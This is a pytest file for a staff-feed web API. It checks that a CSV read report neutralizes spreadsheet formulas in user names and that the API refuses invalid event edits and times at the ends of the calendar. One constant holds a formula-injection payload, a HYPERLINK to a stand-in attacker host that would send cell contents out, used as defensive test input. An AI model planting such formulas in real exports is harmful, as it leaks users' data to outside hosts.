"""Security hardening of the feed: a name in the read report cannot run as a spreadsheet formula; event times
at the ends of the calendar are refused, not a server error."""

from fastapi.testclient import TestClient

from tests.forms import submit

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Відкрити")'


class TestReadReportCsv:
    def test_a_formula_in_a_name_is_neutralized(self, manager_client: TestClient, staff_client: TestClient) -> None:
        post = manager_client.post(
            "/api/v1/posts", json={"body": "Нова інструкція з вакцинації", "kind": "announcement", "must_read": True}
        ).json()
        me = staff_client.get("/api/v1/users/me").json()
        profile = {"name": FORMULA, "handle": me["handle"], "timezone": "Europe/Kyiv"}
        assert staff_client.patch("/api/v1/users/me", json=profile).status_code == 200
        staff_client.post(f"/api/v1/posts/{post['id']}/read")
        csv = manager_client.get(f"/posts/{post['id']}/reads.csv").text
        assert "'=HYPERLINK" in csv and ',"=HYPERLINK' not in csv and ",=HYPERLINK" not in csv


class TestEditEvent:
    def _event(self, client: TestClient) -> int:
        post = client.post(
            "/api/v1/posts",
            json={
                "body": "Тренінг з СЛР",
                "kind": "event",
                "event": {
                    "title": "СЛР для медсестер",
                    "starts_at": "2030-03-10T10:00:00",
                    "ends_at": "2030-03-10T12:00:00",
                },
            },
        )
        assert post.status_code == 201, post.text
        return post.json()["event"]["id"]

    def test_null_for_a_required_field_is_refused(self, staff_client: TestClient) -> None:
        event_id = self._event(staff_client)
        for field in ("format", "title", "starts_at", "place"):
            response = staff_client.patch(f"/api/v1/events/{event_id}", json={field: None})
            assert response.status_code == 422 and field in response.json()["detail"], field
        assert staff_client.get(f"/api/v1/events/{event_id}").json()["title"] == "СЛР для медсестер"

    def test_blank_title_is_refused(self, staff_client: TestClient) -> None:
        event_id = self._event(staff_client)
        response = staff_client.patch(f"/api/v1/events/{event_id}", json={"title": "   "})
        assert response.status_code == 422 and response.json()["error"] == "InvalidInput"


class TestEventTimesAtTheEndsOfTheCalendar:
    """Converting year 1 or 9999 with a zone to UTC overflows; such a time is a typo and gets a message."""

    def test_the_api_refuses_them(self, staff_client: TestClient) -> None:
        for starts, ends in (
            ("0001-01-01T00:00+05:00", "2030-03-10T12:00"),
            ("2030-03-10T10:00", "9999-12-31T22:00-05:00"),
        ):
            response = staff_client.post(
                "/api/v1/posts",
                json={
                    "body": "Тренінг",
                    "kind": "event",
                    "event": {"title": "СЛР", "starts_at": starts, "ends_at": ends},
                },
            )
            assert response.status_code == 422 and "1900" in response.json()["detail"], response.text
        assert staff_client.get("/api/v1/posts").json()["items"] == []

    def test_the_page_form_comes_back_with_the_text(self, staff_page: TestClient) -> None:
        response = submit(
            staff_page,
            "/",
            "/posts",
            {
                "kind": "event",
                "body": "Запрошуємо на тренінг",
                "event_title": "СЛР для медсестер",
                "event_starts_at": "9999-12-31T23:00",
                "event_ends_at": "9999-12-31T23:30",
            },
        )
        assert response.status_code == 422
        assert "1900" in response.text and "Запрошуємо на тренінг" in response.text
